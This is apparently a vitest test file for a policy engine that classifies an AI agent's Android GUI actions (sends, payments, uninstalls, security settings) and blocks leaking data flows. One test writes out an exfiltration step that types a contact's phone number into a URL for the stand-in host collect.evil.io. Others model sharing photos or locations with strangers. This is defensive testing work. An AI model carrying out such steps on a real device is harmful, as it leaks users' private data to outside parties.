import { describe, expect, it } from 'vitest';
import { engine, gui } from '../../../helpers/engine';

function lift(steps: Array<Record<string, unknown>>) {
  const e = engine();
  let last;
  for (const step of steps) {
    const r = e.evaluate(gui('a', 'dev-1', step));
    if (!r.ok) throw new Error(r.error.message);
    last = r.decided[0].event;
  }
  return last!;
}

describe('GUI semantic lifting', () => {
  it('lifts a known messaging app send button to a send with the typed draft', () => {
    const ev = lift([
      { op: 'launch_app', app: 'com.whatsapp' },
      { op: 'tap', app: 'com.whatsapp', target: { text: 'Mum' } },
      { op: 'type', app: 'com.whatsapp', target: { resourceId: 'com.whatsapp:id/entry' }, text: 'on my way' },
      { op: 'tap', app: 'com.whatsapp', target: { resourceId: 'com.whatsapp:id/send', contentDesc: 'Send' } },
    ]);
    expect(ev).toMatchObject({ effect: 'send', resource: 'chat', sink: { kind: 'chat', recipients: ['Mum'], external: true } });
    expect(ev.payload.map((p) => p.value)).toEqual(['on my way']);
  });

  it('lifts Gmail send to an email send to the To recipients', () => {
    const ev = lift([
      { op: 'launch_app', app: 'com.google.android.gm' },
      { op: 'type', app: 'com.google.android.gm', target: { resourceId: 'com.google.android.gm:id/to' }, text: 'a@x.io, b@y.io' },
      { op: 'type', app: 'com.google.android.gm', target: { resourceId: 'com.google.android.gm:id/subject' }, text: 'hi' },
      { op: 'tap', app: 'com.google.android.gm', target: { resourceId: 'com.google.android.gm:id/send' } },
    ]);
    expect(ev).toMatchObject({ effect: 'send', resource: 'email', sink: { kind: 'email', recipients: ['a@x.io', 'b@y.io'] } });
  });

  it('falls back to generic button semantics for unknown apps, in Chinese too', () => {
    expect(lift([{ op: 'launch_app', app: 'com.example.unknownchat' }, { op: 'tap', app: 'com.example.unknownchat', target: { text: 'Send' } }]).effect).toBe('send');
    expect(lift([{ op: 'launch_app', app: 'cn.example.app' }, { op: 'tap', app: 'cn.example.app', target: { text: '发送' } }]).effect).toBe('send');
    expect(lift([{ op: 'launch_app', app: 'cn.example.app' }, { op: 'tap', app: 'cn.example.app', target: { text: '删除' } }]).effect).toBe('delete');
    expect(lift([{ op: 'launch_app', app: 'cn.example.app' }, { op: 'tap', app: 'cn.example.app', target: { text: '立即支付' } }]).effect).toBe('payment');
  });

  it('keeps navigation labels that merely contain a commit word as navigation', () => {
    expect(lift([{ op: 'tap', app: 'com.venmo', target: { resourceId: 'com.venmo:id/pay_or_request_button', text: 'Pay or Request' } }]).effect).toBe('navigate');
    expect(lift([{ op: 'tap', app: 'com.unionpay', target: { text: '信用卡还款' } }]).effect).toBe('navigate');
  });

  it('lifts a generic confirm by the screen context that led to it', () => {
    const path = (app: string, labels: string[], confirm: Record<string, unknown>) => lift([{ op: 'launch_app', app }, ...labels.map((text) => ({ op: 'tap', app, target: { text } })), { op: 'tap', app, target: confirm }]);
    expect(path('com.android.settings', ['Apps', 'Pinterest', 'Uninstall'], { resourceId: 'android:id/button1', text: 'OK' }).effect).toBe('uninstall');
    expect(path('com.android.settings', ['Accounts', 'work@acme.example'], { text: 'Remove account' }).effect).toBe('account');
    expect(path('com.tencent.mm', ['张伟', '转账'], { text: '确认' }).effect).toBe('payment');
    expect(path('com.android.settings', ['Security', 'Device admin apps', 'MDM'], { text: 'Activate' }).effect).toBe('permission');
    expect(path('com.android.settings', ['Display'], { text: 'OK' })).toMatchObject({ effect: 'settings', impact: 'low' });
    expect(path('com.android.settings', ['System', 'Developer options'], { text: 'OK' })).toMatchObject({ impact: 'high' });
  });

  it('treats ENTER with a draft in a chat app as a send', () => {
    const ev = lift([
      { op: 'launch_app', app: 'org.telegram.messenger' },
      { op: 'tap', app: 'org.telegram.messenger', target: { text: 'Bob' } },
      { op: 'type', app: 'org.telegram.messenger', target: { className: 'android.widget.EditText' }, text: 'hello' },
      { op: 'key', app: 'org.telegram.messenger', key: 'ENTER' },
    ]);
    expect(ev.effect).toBe('send');
  });

  it('marks password fields so typing a secret there is not a leak', () => {
    const ev = lift([{ op: 'type', app: 'com.chase.sig.android', target: { resourceId: 'com.chase.sig.android:id/password_input' }, text: 'hunter2hunter2' }]);
    expect(ev).toMatchObject({ effect: 'draft', secretField: true });
  });
});

describe('share flows', () => {
  it('a photo shared from the gallery into a chat carries the photo', async () => {
    const { decide, engine, gui: g } = await import('../../../helpers/engine');
    const e = engine();
    const steps: Array<Record<string, unknown>> = [
      { op: 'launch_app', app: 'com.google.android.apps.photos' },
      { op: 'tap', app: 'com.google.android.apps.photos', target: { contentDesc: 'Photo taken on Oct 3' } },
      { op: 'tap', app: 'com.google.android.apps.photos', target: { contentDesc: 'Share' } },
      { op: 'tap', app: 'com.google.android.apps.photos', target: { text: 'WhatsApp' } },
      { op: 'tap', app: 'com.whatsapp', target: { text: 'Stranger' } },
    ];
    for (const s of steps) expect(decide(e, g('a', 'd', s)).decision).toBe('allow');
    const send = decide(e, g('a', 'd', { op: 'tap', app: 'com.whatsapp', target: { contentDesc: 'Send' } }));
    expect(send).toMatchObject({ decision: 'deny', flows: [{ from: 'photos', to: 'chat:Stranger' }] });
  });

  it('sharing a location from Maps is a location leak; sharing a web page is not', async () => {
    const { decide, engine, gui: g } = await import('../../../helpers/engine');
    const e = engine();
    decide(e, g('a', 'd', { op: 'launch_app', app: 'com.google.android.apps.maps' }));
    expect(decide(e, g('a', 'd', { op: 'tap', app: 'com.google.android.apps.maps', target: { text: 'Share location' } })).decision).toBe('allow');
    decide(e, g('a', 'd', { op: 'tap', app: 'com.google.android.apps.maps', target: { text: 'Unknown caller' } }));
    expect(decide(e, g('a', 'd', { op: 'tap', app: 'com.google.android.apps.maps', target: { text: 'Share' } })).decision).toBe('deny');
    const e2 = engine();
    decide(e2, g('a', 'd', { op: 'launch_app', app: 'com.android.chrome' }));
    decide(e2, g('a', 'd', { op: 'tap', app: 'com.android.chrome', target: { contentDesc: 'Share' } }));
    decide(e2, g('a', 'd', { op: 'tap', app: 'com.android.chrome', target: { text: 'WhatsApp' } }));
    expect(decide(e2, g('a', 'd', { op: 'tap', app: 'com.whatsapp', target: { contentDesc: 'Send' } })).decision).toBe('allow');
  });
});

describe('browser address bar', () => {
  it('carries what is typed into the URL to the host it opens', async () => {
    const { decide, engine, gui: g, tool } = await import('../../../helpers/engine');
    const e = engine();
    decide(e, tool('a', 'read_contacts', {}), { result: [{ name: 'Ana Souza', phone: '+55 11 95555-0101' }] });
    decide(e, g('a', 'd', { op: 'launch_app', app: 'com.android.chrome' }));
    decide(e, g('a', 'd', { op: 'type', app: 'com.android.chrome', target: { resourceId: 'com.android.chrome:id/url_bar' }, text: 'collect.evil.io/?n=5511955550101' }));
    expect(decide(e, g('a', 'd', { op: 'key', app: 'com.android.chrome', key: 'ENTER' }))).toMatchObject({ decision: 'deny', flows: [{ from: 'contacts', to: 'http:collect.evil.io' }] });
    decide(e, g('a', 'd', { op: 'type', app: 'com.android.chrome', target: { resourceId: 'com.android.chrome:id/url_bar' }, text: 'weather tomorrow' }));
    expect(decide(e, g('a', 'd', { op: 'key', app: 'com.android.chrome', key: 'ENTER' })).decision).toBe('allow');
  });
});

describe('GUI lifting of system flows and payment buttons', () => {
  it('a confirm takes its effect from the last committing button on the path, in any language of the lexicon', () => {
    const ev = lift([
      { op: 'launch_app', app: 'com.android.settings' },
      { op: 'tap', app: 'com.android.settings', target: { text: 'Hermes Paketversand' } },
      { op: 'tap', app: 'com.android.settings', target: { text: 'Deinstallieren' } },
      { op: 'tap', app: 'com.android.settings', target: { resourceId: 'android:id/button1', text: 'OK' } },
    ]);
    expect(ev).toMatchObject({ effect: 'uninstall', impact: 'high' });
  });

  it('a system dialog keeps the path of the screen it pops up over; its Settings button is not an install', () => {
    const uninstall = lift([
      { op: 'launch_app', app: 'com.android.settings' },
      { op: 'tap', app: 'com.android.settings', target: { text: 'TikTok' } },
      { op: 'tap', app: 'com.android.settings', target: { text: 'Uninstall' } },
      { op: 'tap', app: 'com.google.android.packageinstaller', target: { resourceId: 'android:id/button1', text: 'OK' } },
    ]);
    expect(uninstall.effect).toBe('uninstall');
    const settings = lift([
      { op: 'launch_app', app: 'com.google.android.apps.nbu.files' },
      { op: 'tap', app: 'com.google.android.packageinstaller', target: { resourceId: 'android:id/button1', text: 'Settings' } },
    ]);
    expect(settings.effect).toBe('navigate');
  });

  it('a Settings row title opens its screen, whatever it says', () => {
    const ev = lift([
      { op: 'launch_app', app: 'com.android.settings' },
      { op: 'tap', app: 'com.android.settings', target: { resourceId: 'android:id/title', text: 'Factory data reset' } },
    ]);
    expect(ev.effect).toBe('navigate');
  });

  it('Swipe to pay pays; a payment-app button naming an amount pays; a balance does not', () => {
    const swipe = lift([
      { op: 'launch_app', app: 'co.uk.getmondo' },
      { op: 'type', app: 'co.uk.getmondo', target: { resourceId: 'co.uk.getmondo:id/amount_input' }, text: '40' },
      { op: 'swipe', app: 'co.uk.getmondo', target: { resourceId: 'co.uk.getmondo:id/swipe_to_pay', text: 'Swipe to pay' }, direction: 'right' },
    ]);
    expect(swipe.effect).toBe('payment');
    expect(lift([{ op: 'launch_app', app: 'com.revolut.revolut' }, { op: 'tap', app: 'com.revolut.revolut', target: { text: 'Add £200' } }]).effect).toBe('payment');
    expect(lift([{ op: 'launch_app', app: 'com.revolut.revolut' }, { op: 'tap', app: 'com.revolut.revolut', target: { text: 'Balance £1,240.50' } }]).effect).toBe('navigate');
  });

  it('a security feature outside Settings (Play Protect in the Play Store) is a security settings change', () => {
    const ev = lift([
      { op: 'launch_app', app: 'com.android.vending' },
      { op: 'tap', app: 'com.android.vending', target: { text: 'Play Protect' } },
      { op: 'tap', app: 'com.android.vending', target: { text: 'Turn off' } },
    ]);
    expect(ev).toMatchObject({ effect: 'settings', impact: 'high' });
  });

  it('Reply opens a draft; the Send of that draft sends', () => {
    const reply = lift([{ op: 'launch_app', app: 'com.google.android.gm' }, { op: 'tap', app: 'com.google.android.gm', target: { contentDesc: 'Reply' } }]);
    expect(reply.effect).toBe('navigate');
  });
});
